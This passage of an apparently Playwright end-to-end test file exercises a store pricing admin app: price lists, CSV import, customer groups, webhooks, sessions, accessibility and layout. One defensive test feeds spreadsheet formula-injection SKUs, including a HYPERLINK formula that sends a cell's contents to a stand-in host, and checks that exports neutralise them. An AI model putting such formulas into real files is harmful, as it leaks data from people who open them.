    await expect.poll(() => fieldError(create.getByLabel('Percentage off'))).toMatch(/^Percentage off: ./);
    await create.getByLabel('Kind').selectOption('fixed');
    await create.getByRole('button', { name: 'Create price list' }).click();
    await heading(page, 'Price list “Glove deal”').waitFor();
    const listId = Number(new URL(page.url()).hash.split('/').at(-1));
    const policyOf = async () => ((await server.request('GET', `/v1/price-lists/${listId}`, { token: tenant.token })).body as { policy: string }).policy;
    expect(await policyOf()).toBe('first');
    // Made a sale: it stands aside from the walk, and is paid where it is lower.
    const settings = form(page, 'Price list settings');
    await settings.getByLabel('Policy').selectOption('lowest');
    await settings.getByRole('button', { name: 'Save' }).click();
    await expect.poll(policyOf).toBe('lowest');

    await page.getByRole('button', { name: 'Add an entry' }).click();
    const add = form(page, 'Add or edit an entry');
    await add.getByLabel('SKU', { exact: true }).fill(catalog.skus.mug);
    await add.getByLabel('Price', { exact: true }).fill('3.2');
    // Sold in pairs on this list: the entry's own quantity rule.
    await add.getByLabel('Case pack').fill('2');
    await add.getByRole('button', { name: 'Add entry' }).click();
    await page.getByRole('region', { name: 'Entries of this list' }).getByText('£3.20', { exact: true }).waitFor();
    await page.getByRole('region', { name: 'Entries of this list' }).getByRole('cell', { name: '2+, ×2', exact: true }).waitFor();

    // A CSV import of entries for one more SKU: checked first, then applied; the MUG entry stays (scope: the SKUs in the file).
    const upload = form(page, 'Import entries');
    await upload
      .getByLabel('CSV file')
      .setInputFiles({ name: 'gloves.csv', mimeType: 'text/csv', buffer: Buffer.from(`sku,price\n${catalog.skus.teeRedM},11.5\n`) });
    await upload.getByRole('button', { name: 'Check the file (dry run)' }).click();
    await page.getByText('Checked, nothing changed yet: 1 entries would be created, 0 would be deleted, 0 would be left as they are.').waitFor();
    expect(await page.getByRole('region', { name: 'Entries of this list' }).getByRole('row').count()).toBe(2);
    await upload.getByRole('button', { name: 'Apply the import' }).click();
    const entries = page.getByRole('region', { name: 'Entries of this list' });
    await entries.getByText('£11.50', { exact: true }).waitFor();
    expect(await entries.getByRole('row').count()).toBe(3);
    expect(await upload.getByRole('button', { name: 'Apply the import' }).isDisabled()).toBe(true);
    // An entry's price edited where it is: a replace of its SKU that keeps its quantity rule.
    await entries.getByRole('button', { name: /^Change the price of entry #\d+ \(MUG\d+\), now £3\.20$/ }).click();
    const entryField = entries.getByRole('textbox', { name: /^New price of entry #\d+ \(MUG\d+\)$/ });
    await entryField.fill('3.15');
    await entryField.press('Enter');
    await entries.getByText('£3.15', { exact: true }).waitFor();
    await entries.getByRole('cell', { name: '2+, ×2', exact: true }).waitFor();
    // The imported entry edited whole in the panel (its break and quantity rule): a replace of its SKU.
    await entries.getByRole('button', { name: new RegExp(`^Edit entry #\\d+ of ${catalog.skus.teeRedM}$`) }).click();
    const editEntry = form(page, 'Add or edit an entry');
    await page.getByRole('heading', { level: 2, name: /^Edit entry #\d+$/ }).waitFor();
    expect(await editEntry.getByLabel('SKU', { exact: true }).inputValue()).toBe(catalog.skus.teeRedM);
    expect(await editEntry.getByLabel('Price', { exact: true }).inputValue()).toBe('11.5');
    await editEntry.getByLabel('From quantity').fill('6');
    await editEntry.getByLabel('Case pack').fill('3');
    await editEntry.getByRole('button', { name: 'Save (replace)' }).click();
    await entries.getByRole('cell', { name: '3+, ×3', exact: true }).waitFor();
    const stored = (await server.request('GET', `/v1/price-lists/${listId}/prices?sku=${catalog.skus.teeRedM}`, { token: tenant.token })).body as Array<
      Record<string, unknown>
    >;
    expect(stored).toEqual([
      expect.objectContaining({ price: 11.5, minQuantity: 6, validFrom: null, validUntil: null, quantityRule: { minimum: 3, maximum: null, increment: 3 } }),
    ]);
    expect(await entries.getByRole('row').count()).toBe(3);

    const assign = form(page, 'Assign a customer');
    await assign.getByLabel('Customer').fill(`regular-${catalog.skus.mug.slice(3)}@example.com`);
    await assign.getByRole('button', { name: 'Assign customer' }).click();
    const members = page.getByRole('region', { name: 'Customers of this list' });
    await members.getByRole('cell', { name: '1 of 1' }).waitFor();
    await members.getByRole('link').click();
    await heading(page, `regular-${catalog.skus.mug.slice(3)}@example.com`).waitFor();
    const explain = form(page, 'Effective price');
    await explain.getByLabel('SKU').fill(catalog.skus.mug);
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    await expect
      .poll(() => page.locator('.effective').textContent())
      .toMatch(/^£3\.15 per unit for 1 × MUG\d+ at .*From the price list “Glove deal”, entry #\d+\./);
    expect(await page.locator('.effective .quantity-rule').textContent()).toBe(
      'Quotes and orders of this SKU take at least 2, in multiples of 2 units a line.',
    );
  });

  it('customer groups: creates one with a list, adds a customer, whose effective price then comes from the group’s list', async () => {
    const list = await server.request('POST', '/v1/price-lists', { token: tenant.token, body: { name: 'Group terms', kind: 'percentage', percentage: 50 } });
    expect(list.status).toBe(201);
    const installer = await server.request('POST', '/v1/customers', { token: tenant.token, body: { email: 'installer@fitters.example' } });
    expect(installer.status).toBe(201);
    const { page } = await open();
    await signIn(page, owner);
    await page.getByRole('link', { name: 'Groups' }).click();
    await heading(page, 'Customer groups').waitFor();
    const create = form(page, 'Create a customer group');
    await create.getByLabel('Name').fill('Installers');
    await create.getByLabel('Price lists, in order').fill('No such list');
    await create.getByRole('button', { name: 'Create group' }).click();
    await expect.poll(() => fieldError(create.getByLabel('Price lists, in order'))).toMatch(/no price list of this store is called 'No such list'/);
    await create.getByLabel('Price lists, in order').fill('Group terms');
    await create.getByRole('button', { name: 'Create group' }).click();
    await heading(page, 'Customer group “Installers”').waitFor();
    const groupId = Number(new URL(page.url()).hash.split('/').at(-1));
    expect((await server.request('GET', `/v1/customer-groups/${groupId}`, { token: tenant.token })).body).toMatchObject({
      name: 'Installers',
      priceListIds: [(list.body as { id: number }).id],
    });

    const add = form(page, 'Add a customer');
    await add.getByLabel('Customer').fill('installer@fitters.example');
    await add.getByRole('button', { name: 'Add customer' }).click();
    const members = page.getByRole('region', { name: 'Customers of this group' });
    await members.getByRole('link').click();
    await heading(page, 'installer@fitters.example').waitFor();
    await page.getByRole('link', { name: 'Installers' }).waitFor();
    const explain = form(page, 'Effective price');
    await explain.getByLabel('SKU').fill(catalog.skus.mug);
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    await expect
      .poll(() => page.locator('.effective').textContent())
      .toMatch(/^£2\.10 per unit for 1 × MUG\d+ at .*From the price list “Group terms” \(a percentage off the catalog price\)/);
    await expect.poll(() => page.locator('.effective').textContent()).toContain('through the customer’s group');
    // A quantity rule of the product is told beside the price (and removed again for the tests after this one).
    const ruled = await server.request('PUT', `/v1/products/${catalog.mug}`, { token: tenant.token, body: { quantityRule: { minimum: 6, increment: 6 } } });
    expect(ruled.status).toBe(200);
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    await expect
      .poll(() => page.locator('.quantity-rule').textContent())
      .toBe('Quotes and orders of this SKU take at least 6, in multiples of 6 units a line.');
    expect((await server.request('PUT', `/v1/products/${catalog.mug}`, { token: tenant.token, body: { quantityRule: null } })).status).toBe(200);

    // Out of the group again, from the group's page.
    await page.getByRole('link', { name: 'Installers' }).click();
    await heading(page, 'Customer group “Installers”').waitFor();
    await page.getByRole('button', { name: 'Remove installer@fitters.example from this group' }).click();
    await page.getByText('No customer is in this group.').waitFor();
    expect((await server.request('GET', `/v1/customers/${(installer.body as { id: number }).id}`, { token: tenant.token })).body).toMatchObject({
      customerGroupId: null,
    });
  });

  it('webhooks: creates one whose receiver answers the handshake, shows its secret once, deactivates it', async () => {
    const receiver = await startReceiver();
    try {
      const { page } = await open();
      await signIn(page, owner);
      await page.getByRole('link', { name: 'Webhooks' }).click();
      await heading(page, 'Webhooks').waitFor();
      const create = form(page, 'Create a webhook');
      await create.getByLabel('Topic').selectOption('customer.created');
      await create.getByLabel('Receiver URL').fill('ftp://127.0.0.1/hook');
      await create.getByRole('button', { name: 'Create webhook' }).click();
      await expect.poll(() => fieldError(create.getByLabel('Receiver URL'))).toMatch(/^Receiver URL: ./);

      await create.getByLabel('Receiver URL').fill(receiver.url);
      await create.getByRole('button', { name: 'Create webhook' }).click();
      await page.getByText(/^Webhook #\d+ created \(verified\)\. Its signing secret, shown only now:$/).waitFor();
      expect(await page.locator('code.secret').textContent()).toMatch(/^whsec_/);
      expect(receiver.handshakes).toHaveLength(1);
      const row = page.getByRole('region', { name: 'Webhooks' }).getByRole('row').nth(1);
      expect(await row.getByRole('cell').allTextContents()).toEqual([
        'customer.created',
        receiver.url,
        'Yes',
        'Yes',
        expect.any(String),
        'DeliveriesVerify againDeactivateDelete',
      ]);

      // An event delivered by the worker, then the webhook's deliveries in the page.
      const worker = startWorker(server);
      try {
        // Events from before the webhook are fanned out too once a worker runs (none ran here): wait for this one.
        expect((await server.request('POST', '/v1/customers', { token: tenant.token, body: { email: 'hooked@example.com' } })).status).toBe(201);
        await receiver.waitFor(() => receiver.deliveries.some((delivery) => delivery.body.includes('hooked@example.com')));
      } finally {
        await worker.stop();
      }
      await row.getByRole('button', { name: /^Show the deliveries of webhook #\d+$/ }).click();
      const delivered = page.getByRole('region', { name: /^Deliveries of webhook #\d+, newest first$/ });
      await delivered.waitFor();
      await expect.poll(() => delivered.getByRole('row').nth(1).textContent()).toMatch(/^#\d+Delivered1a 2xx/);

      await row.getByRole('button', { name: /^Deactivate webhook/ }).click();
      await expect.poll(() => row.getByRole('cell').nth(2).textContent()).toMatch(/^No: disabled/);
      await row.getByRole('button', { name: /^Verify again: webhook #\d+$/ }).click();
      await receiver.waitFor(() => receiver.handshakes.length === 2);
    } finally {
      await receiver.close();
    }
  });

  it('signs out: the session ends on the server (its cookie no longer works) and the sign-in form is back', async () => {
    const { page } = await open();
    await signIn(page, owner);
    await page.getByRole('navigation', { name: 'Main' }).getByText('Olive Owner (owner)').waitFor();
    const [cookie] = await browser.context.cookies(server.baseUrl);
    expect(cookie).toMatchObject({ name: 'pricebook_session', httpOnly: true, secure: true, sameSite: 'Strict' });
    expect((await server.request('GET', '/v1/session', asStaff(server, cookie!.value))).status).toBe(200);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await heading(page, 'Sign in').waitFor();
    expect(await storedKeys(page)).toEqual([]);
    expect(await browser.context.cookies(server.baseUrl)).toEqual([]);
    // The old cookie, sent again by anyone who kept it: refused.
    expect((await server.request('GET', '/v1/session', asStaff(server, cookie!.value))).status).toBe(401);
    expect((await server.request('GET', '/v1/customers', asStaff(server, cookie!.value))).status).toBe(401);
    // Back to a signed-in page: the sign-in form again.
    await page.goto(`${server.baseUrl}/admin#/customers/${ada}`);
    await heading(page, 'Sign in').waitFor();
    expect(await page.getByRole('navigation', { name: 'Main' }).isHidden()).toBe(true);
  });

  it('refuses a wrong password and an unknown e-mail with the same message, and signs nobody in', async () => {
    const { page } = await open();
    await heading(page, 'Sign in').waitFor();
    const signInForm = form(page, 'Sign in');
    for (const [email, password] of [
      [owner.email, 'not the password at all'],
      ['nobody@example.com', owner.password],
    ] as const) {
      await page.getByLabel('E-mail').fill(email);
      await page.getByLabel('Password').fill(password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      // A sign-in takes a memory-hard hash (a wrong one too): more than the poll's default second on a busy machine.
      await expect.poll(() => signInForm.locator('.form-errors').textContent(), { timeout: 15_000 }).toBe('Wrong e-mail or password');
      await signInForm.locator('.form-errors').evaluate((element) => element.replaceChildren());
    }
    expect(await heading(page, 'Sign in').isVisible()).toBe(true);
    expect(await browser.context.cookies(server.baseUrl)).toEqual([]);
  });

  it('works with the keyboard alone: sign in, find a customer, add a price', async () => {
    const { page } = await open();
    await heading(page, 'Sign in').waitFor();
    // The e-mail field has the focus on arrival.
    await page.keyboard.type(owner.email);
    await page.keyboard.press('Tab');
    await page.keyboard.type(owner.password);
    await page.keyboard.press('Enter');
    await heading(page, 'Customers').waitFor();
    await tabTo(page, 'Search by name, email or company');
    await page.keyboard.type('analytical');
    await tabTo(page, 'Ada Lovelace');
    await page.keyboard.press('Enter');
    await heading(page, 'Ada Lovelace (Analytical Engines Ltd)').waitFor();
    // "Add a price" opens the panel with the focus in its SKU field; a price with a break of 12.
    await tabTo(page, 'Add a price');
    await page.keyboard.press('Enter');
    await page.getByRole('dialog', { name: 'Add a price' }).waitFor();
    await page.keyboard.type(catalog.skus.mug);
    await tabTo(page, 'Price');
    await page.keyboard.type('3.99');
    await tabTo(page, 'From quantity');
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.type('12');
    await page.keyboard.press('Enter');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    // Explained at 12 units: the break applies.
    await tabTo(page, 'Quantity');
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.type('12');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('.effective .price-line').textContent()).toContain(`£3.99 per unit for 12 × ${catalog.skus.mug}`);
    // Everything reachable also shows where the focus is.
    const outline = await page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
    expect(outline).not.toBe('none');
  });

  it('downloads files a spreadsheet does not run: formula SKUs come out neutralised, and the customer’s and the list’s files import back unchanged', async () => {
    const skus = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", '@x', '-1', '+SUM(1)'];
    const post = async (path: string, body: unknown) => {
      const response = await server.request('POST', path, { token: tenant.token, body });
      expect(response.status, response.text).toBe(201);
      return response.body as { id: number };
    };
    const product = await post('/v1/products', { title: 'Formulas', price: 1, variations: skus.map((sku) => ({ sku })) });
    const customer = await post('/v1/customers', { email: 'formulas@spreadsheet.example', trade: true });
    await post(
      '/v1/trade-customer-product-prices/bulk',
      skus.map((sku, index) => ({ customerId: customer.id, productId: product.id, sku, price: index + 1 })),
    );
    const list = await post('/v1/price-lists', { name: 'Formula list', kind: 'fixed' });
    await post(
      `/v1/price-lists/${list.id}/prices/bulk`,
      skus.map((sku, index) => ({ productId: product.id, sku, price: index + 0.5 })),
    );
    const cells = ['"\'=HYPERLINK(""https://x.invalid/?""&A2,""open"")"', "''=X", "'@x", "'-1", "'+SUM(1)"];

    const { page } = await open();
    await signIn(page, owner);
    await page.getByRole('link', { name: 'Import and export' }).click();
    await heading(page, 'Import and export').waitFor();
    const exporting = form(page, 'Download a customer’s prices');
    await exporting.getByLabel('Customer').fill('formulas@spreadsheet.example');
    const [download] = await Promise.all([page.waitForEvent('download'), exporting.getByRole('button', { name: 'Download customer prices' }).click()]);
    const csv = fs.readFileSync(await download.path(), 'utf8');
    expect(csv).toBe(
      ['customer_id,sku,price,min_quantity,valid_from,valid_until', ...cells.map((cell, index) => `${customer.id},${cell},${index + 1},1,,`), ''].join('\n'),
    );

    const entries = form(page, 'Download a price list’s entries');
    await entries.getByLabel('Price list').selectOption({ label: 'Formula list' });
    const [listDownload] = await Promise.all([page.waitForEvent('download'), entries.getByRole('button', { name: 'Download list entries' }).click()]);
    const listCsv = fs.readFileSync(await listDownload.path(), 'utf8');
    expect(listCsv).toBe(
      [
        'sku,price,min_quantity,valid_from,valid_until,quantity_minimum,quantity_maximum,quantity_increment',
        ...cells.map((cell, index) => `${cell},${index + 0.5},1,,,,,`),
        '',
      ].join('\n'),
    );
    // The list's file, sent back to the list as it is: every entry unchanged.
    const listBack = await server.request('POST', `/v1/price-lists/${list.id}/prices/import?scope=list`, {
      token: tenant.token,
      rawBody: listCsv,
      headers: { 'content-type': 'text/csv' },
    });
    expect(listBack.status, listBack.text).toBe(200);
    expect(listBack.body).toMatchObject({ created: [], deleted: [], unchanged: skus.length });

    // The downloaded file, imported back as it is: every price unchanged.
    const upload = form(page, 'Import a CSV file');
    await upload.getByLabel('CSV file').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    await upload.getByLabel('Mode').selectOption('replace');
    await upload.getByRole('button', { name: 'Check the file (dry run)' }).click();
    await page
      .getByText('Dry run succeeded, nothing changed yet: the import would create 0 prices, delete 0 and leave 5 unchanged (5 rows, long format).')
      .waitFor();
  });

  // The last two look at every view as the tests above left them: with prices, lists, imports and a webhook.
  it.each([
    [1280, 900],
    [375, 812],
  ])('has no serious or critical axe-core violations on any view at %i px', async (width, height) => {
    const { page } = await open({ width, height });
    await heading(page, 'Sign in').waitFor();
    const found: Record<string, string[]> = { 'sign-in': await seriousViolations(page) };
    await signIn(page, owner);
    const [order] = (await server.request('GET', '/v1/orders?count=1', { token: tenant.token })).body as Array<{ id: number }>;
    const [list] = (await server.request('GET', '/v1/price-lists?count=1&fields=id,name', { token: tenant.token })).body as Array<{ id: number; name: string }>;
    const [group] = (await server.request('GET', '/v1/customer-groups?count=1&fields=id,name', { token: tenant.token })).body as Array<{
      id: number;
      name: string;
    }>;
    const set = (await server.request('POST', '/v1/change-sets', { token: tenant.token, body: { name: `Axe ${width}` } })).body as { id: number };
    const views = [
      ['customers', 'Customers'],
      [`customers/${ada}`, 'Ada Lovelace (Analytical Engines Ltd)'],
      ['price-lists', 'Price lists'],
      [`price-lists/${list!.id}`, `Price list “${list!.name}”`],
      ['customer-groups', 'Customer groups'],
      [`customer-groups/${group!.id}`, `Customer group “${group!.name}”`],
      ['products', 'Products'],
      [`products/${catalog.tee}`, 'Tee'],
      ['orders', 'Orders'],
      [`orders/${order!.id}`, `Order #${order!.id}`],
      ['change-sets', 'Change sets'],
      [`change-sets/${set.id}`, `Change set: Axe ${width}`],
      ['imports', 'Import and export'],
      ['webhooks', 'Webhooks'],
    ] as const;
    for (const [view, title] of views) {
      await page.goto(`${server.baseUrl}/admin#/${view}`);
      await heading(page, title).waitFor();
      await page.waitForLoadState('networkidle');
      found[view] = await seriousViolations(page);
    }
    // The effective price with its candidates, and a form showing errors.
    await page.goto(`${server.baseUrl}/admin#/customers/${ada}`);
    const explain = form(page, 'Effective price');
    await explain.getByLabel('SKU').fill(catalog.skus.tee);
    await explain.getByRole('button', { name: 'Explain the price' }).click();
    await page.locator('.price-line').waitFor();
    await page.getByRole('button', { name: 'Add a price' }).click();
    await form(page, 'Add or edit a price').getByRole('button', { name: 'Add price' }).click();
    await page.locator('[aria-invalid="true"]').first().waitFor();
    found['customer with answers and errors'] = await seriousViolations(page);
    expect(found).toEqual(Object.fromEntries(['sign-in', ...views.map(([view]) => view), 'customer with answers and errors'].map((view) => [view, []])));
  });

  it('fits a 375 px wide screen: no view scrolls sideways', async () => {
    const { page } = await open({ width: 375, height: 740 });
    await heading(page, 'Sign in').waitFor();
    const wide: string[] = [];
    if (await scrollsSideways(page)) wide.push('sign-in');
    await signIn(page, owner);
    for (const [view, title] of [
      ['customers', 'Customers'],
      [`customers/${ada}`, 'Ada Lovelace (Analytical Engines Ltd)'],
      [`customers/${catalog.otherTradeCustomer}`, `trade2-${catalog.skus.mug.slice(3)}@example.com`],
      ['price-lists', 'Price lists'],
      ['customer-groups', 'Customer groups'],
      ['products', 'Products'],
      [`products/${catalog.tee}`, 'Tee'],
      ['orders', 'Orders'],
      ['change-sets', 'Change sets'],
      ['imports', 'Import and export'],
      ['webhooks', 'Webhooks'],
    ] as const) {
      await page.goto(`${server.baseUrl}/admin#/${view}`);
      await heading(page, title).waitFor();
      await page.waitForLoadState('networkidle');
      if (await scrollsSideways(page)) wide.push(view);
    }
    expect(wide).toEqual([]);
  });
});
